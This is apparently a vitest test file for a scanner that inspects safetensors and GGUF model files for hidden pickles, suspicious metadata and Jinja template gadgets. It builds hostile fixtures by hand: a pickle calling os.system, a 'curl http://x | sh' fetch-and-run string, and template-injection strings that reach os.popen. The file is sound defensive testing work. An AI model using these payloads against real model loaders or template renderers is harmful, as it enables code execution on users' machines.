import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ruleIds, SAMPLES, scanOne } from "../helpers/scan.js";
import { GgufBuilder, T } from "./gguf/build.js";

const enc = new TextEncoder();

function safetensors(header: object, data: number, extra: Uint8Array = new Uint8Array(0)): Uint8Array {
  const h = enc.encode(JSON.stringify(header));
  const out = new Uint8Array(8 + h.length + data + extra.length);
  new DataView(out.buffer).setBigUint64(0, BigInt(h.length), true);
  out.set(h, 8);
  out.set(extra, 8 + h.length + data);
  return out;
}

/** pickle.dumps of a `__reduce__` to os.system("echo x"), protocol 2 (built by hand for the test). */
const PICKLE = Uint8Array.from([
  0x80,
  0x02,
  0x63,
  ...enc.encode("posix\nsystem\n"),
  0x71,
  0x00,
  0x55,
  0x06,
  ...enc.encode("echo x"),
  0x71,
  0x01,
  0x85,
  0x71,
  0x02,
  0x52,
  0x71,
  0x03,
  0x2e,
]);

const W = { w: { dtype: "F32", shape: [2], data_offsets: [0, 8] } };

describe("safetensors analyzer", () => {
  it("records facts from the header of a real file", async () => {
    const file = await scanOne(readFileSync(join(SAMPLES, "safetensors/clean-model.safetensors")), "model.safetensors");
    expect(file.verdict).toBe("clean");
    expect(file.facts).toMatchObject({
      tensorCount: 6,
      parameterCount: 1120,
      "safetensors.dtypeCounts": { BF16: 1, F16: 1, F32: 3, I64: 1 },
      "safetensors.format": "pt",
    });
    expect([...((file.facts?.dtypes ?? []) as string[])].sort()).toEqual(["BF16", "F16", "F32", "I64"]);
  });

  it("hands trailing bytes to the member scan (a hidden pickle is sniffed there)", async () => {
    const file = await scanOne(safetensors(W, 8, PICKLE), "model.safetensors");
    expect(ruleIds(file)).toContain("safetensors/data-length-mismatch");
    const member = file.members?.find((m) => m.path.endsWith("!trailing-data"));
    expect(member?.format).toBe("pickle");
    expect(member?.size).toBe(PICKLE.length);
  });

  it("decodes a base64 or hex pickle in metadata and reports what it would call, as suspicious (never unpickled)", async () => {
    for (const cfg of [Buffer.from(PICKLE).toString("base64"), Buffer.from(PICKLE).toString("hex")]) {
      const file = await scanOne(safetensors({ __metadata__: { format: "pt", cfg }, ...W }, 8), "m.safetensors");
      const finding = file.findings.find((f) => f.ruleId === "safetensors/metadata-pickle");
      expect(finding?.severity).toBe("medium");
      expect(finding?.evidence).toMatchObject({ callee: "posix.system", payloadSeverity: "critical" });
      expect(finding?.message).toContain("posix.system");
      // analysed in place: no member whose findings would rate the stream as if it were loaded
      expect(ruleIds(file)).not.toContain("pickle/dangerous-global");
      expect(file.verdict).toBe("suspicious");
    }
  });

  it("reports code-like metadata text as suspicious, not malicious (metadata is never executed)", async () => {
    const file = await scanOne(
      safetensors(
        {
          __metadata__: {
            format: "pt",
            note: "import os; os.system('curl http://x | sh')",
            p: "cos\nsystem\n(S'id'\ntR.",
          },
          ...W,
        },
        8,
      ),
      "a.safetensors",
    );
    expect(ruleIds(file)).toEqual(expect.arrayContaining(["safetensors/metadata-code", "safetensors/metadata-pickle"]));
    expect(file.findings.filter((f) => f.severity === "high" || f.severity === "critical")).toEqual([]);
    expect(file.verdict).toBe("suspicious");
  });

  it("treats documentation URLs as information and other URLs as suspicious", async () => {
    const doc = await scanOne(
      safetensors({ __metadata__: { license: "https://huggingface.co/x/LICENSE" }, ...W }, 8),
      "a.safetensors",
    );
    expect(doc.verdict).toBe("clean");
    expect(doc.findings.map((f) => [f.ruleId, f.severity])).toEqual([["safetensors/metadata-url", "info"]]);
    const other = await scanOne(
      safetensors({ __metadata__: { src: "http://198.51.100.4/w.bin" }, ...W }, 8),
      "a.safetensors",
    );
    expect(other.verdict).toBe("suspicious");
  });

  it("analyses Jinja templates stored in metadata, as suspicious (safetensors metadata is never rendered)", async () => {
    const file = await scanOne(
      safetensors(
        { __metadata__: { chat_template: "{{ cycler.__init__.__globals__.os.popen('id').read() }}" }, ...W },
        8,
      ),
      "a.safetensors",
    );
    expect(ruleIds(file)).toContain("template/dunder-access");
    expect(file.findings.every((f) => f.severity !== "high" && f.severity !== "critical")).toBe(true);
    expect(file.verdict).toBe("suspicious");
  });
});

describe("GGUF analyzer", () => {
  const base = () =>
    new GgufBuilder()
      .kv("general.architecture", T.str, "llama")
      .kv("general.name", T.str, "tiny")
      .kv("llama.context_length", T.u32, 2048)
      .kv("tokenizer.ggml.tokens", T.arr, { arrayType: T.str, items: ["a", "b", "c", "d"] })
      .kv("tokenizer.ggml.scores", T.arr, { arrayType: T.f32, items: [0, 0, 0, 0] })
      .tensor("token_embd.weight", [32, 4], 8)
      .tensor("output_norm.weight", [32], 0);

  it("records facts", async () => {
    const file = await scanOne(base().build(), "m.gguf");
    expect(file.verdict).toBe("clean");
    const file2 = await scanOne(base().kv("general.file_type", T.u32, 15).build(), "m.gguf");
    expect(file2.facts).toMatchObject({
      architecture: "llama",
      modelType: "llama",
      quantization: "Q4_K_M",
      contextLength: 2048,
      tensorCount: 2,
      parameterCount: 160,
      dtypes: ["Q8_0", "F32"],
      "gguf.version": 3,
      "gguf.name": "tiny",
      "gguf.vocabularySize": 4,
      "gguf.tensorTypes": { Q8_0: 1, F32: 1 },
    });
  });

  it("checks well-known key types, vocabulary lengths and token ids", async () => {
    const file = await scanOne(
      base()
        .kv("tokenizer.ggml.token_type", T.arr, { arrayType: T.i32, items: [1, 1] })
        .kv("tokenizer.ggml.eos_token_id", T.u32, 99)
        .kv("tokenizer.chat_template", T.u32, 1)
        .build(),
      "m.gguf",
    );
    const messages = file.findings.filter((f) => f.ruleId === "gguf/key-type-mismatch").map((f) => f.message);
    expect(messages).toHaveLength(3);
    expect(file.verdict).toBe("suspicious");
  });

  it("analyses every template key and hands trailing bytes to the member scan", async () => {
    const file = await scanOne(
      base()
        .kv("tokenizer.chat_template", T.str, "{{ messages }}")
        .kv("tokenizer.chat_template.rag", T.str, "{{ self.__init__.__globals__ }}")
        .build({ trailing: PICKLE }),
      "m.gguf",
    );
    expect(ruleIds(file)).toEqual(
      expect.arrayContaining(["gguf/trailing-data", "template/dunder-access", "template/gadget-reference"]),
    );
    expect(file.findings.find((f) => f.ruleId === "template/dunder-access")?.evidence?.template).toBe(
      "tokenizer.chat_template.rag",
    );
    expect(file.members?.find((m) => m.path.endsWith("!trailing-data"))?.format).toBe("pickle");
  });
});
